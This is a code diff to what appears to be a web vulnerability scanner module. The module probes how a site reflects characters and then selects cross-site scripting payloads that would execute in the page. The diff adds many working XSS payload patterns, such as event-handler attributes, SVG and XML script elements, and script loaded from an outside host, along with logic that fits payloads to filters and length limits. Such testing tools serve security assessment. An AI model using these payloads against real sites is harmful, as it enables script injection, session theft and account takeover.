@@ -10,24 +10,37 @@ handlers and their combinations with encoders at no request, because the parser 
 from collections.abc import Iterator, Mapping
 
 from msgspec import Struct
+from msgspec.structs import replace
 
 from cyberai.checkkit.echoes import echoes
-from cyberai.checkkit.markup import executable
+from cyberai.checkkit.execution import Execution, execution
+from cyberai.checkkit.markup import is_xml
+from cyberai.domain.http import HttpResponse
 
-CHARACTERS = "\"'`\\/()=;:{}$&- \n>*,<"
-"""The characters whose fate is asked for; `<` last, since a tag filter may swallow what follows it."""
+CODED = "%51"
+"""The letter Q, percent-encoded: it comes back as the letter where the application decodes once more."""
+
+CHARACTERS = (CODED, *"\"'`\\/()=;:{}$&- \n>*,<")
+"""What is asked for its fate; `<` last, since a tag filter may swallow what follows it."""
 
 _MAX_PLACES = 40
 
 
 class Place(Struct, frozen=True):
     """One place where a probe came back: its bytes from `start` to `end`, what became of each character (the
-    identity where it is not listed), and whether letters came back in upper case."""
+    identity where it is not listed), and whether letters came back in upper case. `taken` is how many characters
+    of a probe that was cut off came back, 0 when it was not."""
 
     start: int
     end: int
     treatment: Mapping[str, bytes]
     upper: bool = False
+    taken: int = 0
+
+    @property
+    def decodes(self) -> bool:
+        """True when the application decodes percent-encoding that it has been sent within the value."""
+        return self.treatment.get(CODED, b"").lower() == b"q"
 
     def treated(self, payload: str) -> bytes:
         """The payload as this place would show it."""
@@ -36,10 +49,12 @@ class Place(Struct, frozen=True):
 
 
 class Candidate(Struct, frozen=True):
-    """A payload pattern (see `filled`) and the manner in which it makes a browser call us."""
+    """A payload pattern (see `filled`) and the manner in which it makes a browser call us; `xml`: only where the
+    page is XML."""
 
     manner: str
     pattern: str
+    xml: bool = False
 
 
 def occurrences(body: bytes, token: str) -> list[int]:
@@ -54,18 +69,32 @@ def occurrences(body: bytes, token: str) -> list[int]:
     return found
 
 
-def character_probe(token: str) -> str:
-    """A value that shows the fate of every character: token, then marks `z0`, `z1`, ... around them, `zz`."""
-    return (
-        token
-        + "".join(f"z{_mark(i)}{char}" for i, char in enumerate(CHARACTERS))
-        + f"z{_mark(len(CHARACTERS))}zz"
-    )
+def character_probe(token: str, characters: tuple[str, ...] = CHARACTERS) -> str:
+    """A value that shows the fate of every character: token, then marks `za`, `zb`, ... around them, `zz`."""
+    marked = "".join(f"z{_mark(i)}{char}" for i, char in enumerate(characters))
+    return f"{token}{marked}z{_mark(len(characters))}zz"
 
 
-def places(body: bytes, token: str) -> tuple[Place, ...]:
+def places(body: bytes, token: str, characters: tuple[str, ...] = CHARACTERS) -> tuple[Place, ...]:
     """Where a `character_probe` of this token came back, and how."""
-    return tuple(_place(body, at, len(token)) for at in occurrences(body, token))
+    return tuple(_place(body, at, len(token), characters) for at in occurrences(body, token))
+
+
+def pieces(where: tuple[Place, ...], room: int) -> list[tuple[str, ...]]:
+    """The characters that no place showed, in groups whose own probes (with tokens of `SHORT` letters) are no
+    longer than `room`."""
+    rest = [c for c in CHARACTERS if c != CODED and not any(place.treatment.get(c) for place in where)]
+    size = (room - SHORT - 4) // 3
+    return [tuple(rest[i : i + size]) for i in range(0, len(rest), size)] if size > 0 else []
+
+
+def learnt(where: tuple[Place, ...], treatment: Mapping[str, bytes]) -> tuple[Place, ...]:
+    """The places with what further probes showed about characters."""
+    return tuple(replace(place, treatment={**place.treatment, **treatment}) for place in where)
+
+
+SHORT = 4
+"""Letters of a name where there is little room."""
 
 
 def plain_places(body: bytes, token: str) -> tuple[Place, ...]:
@@ -79,9 +108,7 @@ def plain_places(body: bytes, token: str) -> tuple[Place, ...]:
 def replacing(body: bytes, where: tuple[Place, ...], value: str) -> tuple[Place, ...]:
     """The same places taken together with the original value in front of them: what a payload would get that
     replaces the value instead of following it."""
-    return tuple(
-        Place(_start_of(body, place.start, value), place.end, place.treatment, place.upper) for place in where
-    )
+    return tuple(replace(place, start=_start_of(body, place.start, value)) for place in where)
 
 
 def _start_of(body: bytes, start: int, value: str) -> int:
@@ -103,13 +130,26 @@ def simulate(body: bytes, where: tuple[Place, ...], payload: str) -> bytes:
     return b"".join((*parts, body[last:]))
 
 
-def promising(body: bytes, where: tuple[Place, ...], name: str) -> Iterator[Candidate]:
-    """Candidates that would run in this page, tried there with `name`, the plainest first."""
+def promising(
+    page: HttpResponse, where: tuple[Place, ...], name: str, room: int = 0
+) -> Iterator[tuple[Candidate, Execution]]:
+    """Candidates that would run in this page, tried there with `name`, the plainest first; none longer than `room`,
+    where that is given."""
     usable = _usable(where)
+    xml = is_xml(page)
     for candidate in CANDIDATES:
         payload = filled(candidate.pattern, name)
-        if set(payload) & _SPECIAL <= usable and executable(simulate(body, where, payload), name):
-            yield candidate
+        if (candidate.xml and not xml) or (room and len(payload) > room):
+            continue
+        if set(payload) & _SPECIAL <= usable:
+            runs = execution(replace(page, body=simulate(page.body, where, payload)), name)
+            if runs is not None:
+                yield candidate, runs
+
+
+def coded(payload: str) -> str:
+    """The payload with everything but letters and digits percent-encoded, for an application that decodes twice."""
+    return "".join(c if c.isascii() and c.isalnum() else f"%{ord(c):02X}" for c in payload)
 
 
 def filled(pattern: str, name: str) -> str:
@@ -121,6 +161,7 @@ def filled(pattern: str, name: str) -> str:
 
 _SPECIAL = frozenset(CHARACTERS)
 
+_VISIBILITY = "oncontentvisibilityautostatechange"
 _IN_PLACE: tuple[tuple[str, str], ...] = (
     ("script expression", "-@"),
     ("script expression", ";@"),
@@ -150,15 +191,32 @@ _IN_PLACE: tuple[tuple[str, str], ...] = (
     ("script source", "https://@HOST/"),
     ("script URL", "javascript:@"),
     ("script URL", "JavaScript:@//http://"),
-    ("attribute", '"onfocus="@'),
-    ("attribute", "'onfocus='@"),
-    ("attribute", '" autofocus onfocus="@'),
-    ("attribute", "' autofocus onfocus='@"),
-    ("attribute", '" autofocus onfocus=@ x="'),
-    ("attribute", "' autofocus onfocus=@ x='"),
-    ("attribute", " autofocus onfocus=@ x="),
-    ("attribute", "x autofocus onfocus=@ "),
-    ("attribute", "/onfocus=@/"),
+    ("attribute", '"tabindex="1"autofocus=""onfocus="@'),
+    ("attribute", "'tabindex='1'autofocus=''onfocus='@"),
+    ("attribute", '" tabindex="1" autofocus="" onfocus="@'),
+    ("attribute", "' tabindex='1' autofocus='' onfocus='@"),
+    ("attribute", '" tabindex=1 autofocus onfocus=@ x="'),
+    ("attribute", "' tabindex=1 autofocus onfocus=@ x='"),
+    ("attribute", " tabindex=1 autofocus onfocus=@ x="),
+    ("attribute", "x tabindex=1 autofocus onfocus=@ "),
+    ("attribute", "/tabindex=1/autofocus/onfocus=@/"),
+    ("short attribute", '"autofocus onfocus="@'),
+    ("short attribute", "'autofocus onfocus='@"),
+    ("short attribute", " autofocus onfocus=@ "),
+    ("attribute of what loads", '"onload="@"onerror="@'),
+    ("attribute of what loads", "'onload='@'onerror='@"),
+    ("attribute of what loads", " onload=@ onerror=@ "),
+    ("attribute of what is not shown", f'" {_VISIBILITY}="@" style="content-visibility:auto'),
+    ("attribute of what is not shown", f"' {_VISIBILITY}='@' style='content-visibility:auto"),
+    ("attribute of what is not shown", f"x {_VISIBILITY}=@ style=content-visibility:auto "),
+    ("attribute for the pointer", '"onmouseover="@'),
+    ("attribute for the pointer", "'onmouseover='@"),
+    ("attribute for the pointer", '" onmouseover="@'),
+    ("attribute for the pointer", "' onmouseover='@"),
+    ("attribute for the pointer", " onmouseover=@ "),
+    ("attribute with an access key", '"accesskey="x"onclick="@'),
+    ("attribute with an access key", "'accesskey='x'onclick='@"),
+    ("attribute with an access key", "x accesskey=x onclick=@ "),
 )
 
 _TAGS: tuple[tuple[str, str], ...] = (
@@ -171,6 +229,7 @@ _TAGS: tuple[tuple[str, str], ...] = (
     ("element with handler, unclosed", "<svg/onload=@ "),
     ("frame", "<iframe src=javascript:@>"),
     ("script element from a host", "<script src=//@HOST></script>"),
+    ("script element from a host, encrypted", "<script src=https://@HOST></script>"),
     ("element with coded handler", "<svg/onload=@CODED>"),
 )
 
@@ -199,8 +258,30 @@ _WAYS_OUT = (
 )
 
 
-CANDIDATES = tuple(Candidate(manner, pattern) for manner, pattern in _IN_PLACE) + tuple(
-    Candidate(manner, before + pattern) for manner, pattern in _TAGS for before in _WAYS_OUT
+_XML_TAGS: tuple[tuple[str, str], ...] = (
+    ("script element", "<script>@</script>"),
+    ("script element with its namespace", '<script xmlns="http://www.w3.org/1999/xhtml">@</script>'),
+    ("script element with its namespace", "<script xmlns='http://www.w3.org/1999/xhtml'>@</script>"),
+    ("animation", '<set xmlns="http://www.w3.org/2000/svg" onbegin="@"/>'),
+)
+_XML_WAYS_OUT = (
+    ("", ""),
+    ('">', ""),
+    ('"/>', ""),
+    ("'>", ""),
+    ("'/>", ""),
+    ("-->", ""),
+    ("]]>", "<![CDATA["),
+)
+
+CANDIDATES = (
+    *(Candidate(manner, pattern) for manner, pattern in _IN_PLACE),
+    *(Candidate(manner, before + pattern) for manner, pattern in _TAGS for before in _WAYS_OUT),
+    *(
+        Candidate(manner, before + pattern + after, xml=True)
+        for manner, pattern in _XML_TAGS
+        for before, after in _XML_WAYS_OUT
+    ),
 )
 """Every payload of the catalogue."""
 
@@ -209,13 +290,13 @@ def _mark(index: int) -> str:
     return "abcdefghijklmnopqrstuvwxy"[index]
 
 
-def _place(body: bytes, start: int, length: int) -> Place:
+def _place(body: bytes, start: int, length: int, characters: tuple[str, ...]) -> Place:
     treatment: dict[str, bytes] = {}
-    window = body[start : start + length + 40 * len(CHARACTERS)]
+    window = body[start : start + length + 40 * len(characters)]
     upper = window[:length] != window[:length].lower()
     window = window.lower() if upper else window
     at = length
-    for index, char in enumerate(CHARACTERS):
+    for index, char in enumerate(characters):
         opening, closing = f"z{_mark(index)}".encode(), f"z{_mark(index + 1)}".encode()
         if not window.startswith(opening, at):
             break
@@ -224,12 +305,15 @@ def _place(body: bytes, start: int, length: int) -> Place:
             break
         treatment[char] = window[at + 2 : end]
         at = end
-    last = f"z{_mark(len(CHARACTERS))}zz".encode()
+    last = f"z{_mark(len(characters))}zz".encode()
     complete = window.startswith(last, at)
-    for char in CHARACTERS:
+    # A tag filter swallows what follows `<`, and with it the last mark; more is missing only where all was cut off.
+    cut = len(treatment) < len(characters) - 1
+    taken = length + sum(2 + len(char) for char in treatment) + 2 if cut else 0
+    for char in characters:
         # Behind a cut everything is lost; a character whose mark did not come back was cut with it.
         treatment.setdefault(char, b"")
-    return Place(start, start + at + (len(last) if complete else 0), treatment, upper)
+    return Place(start, start + at + (len(last) if complete else 0), treatment, upper, taken)
 
 
 def _usable(where: tuple[Place, ...]) -> set[str]:
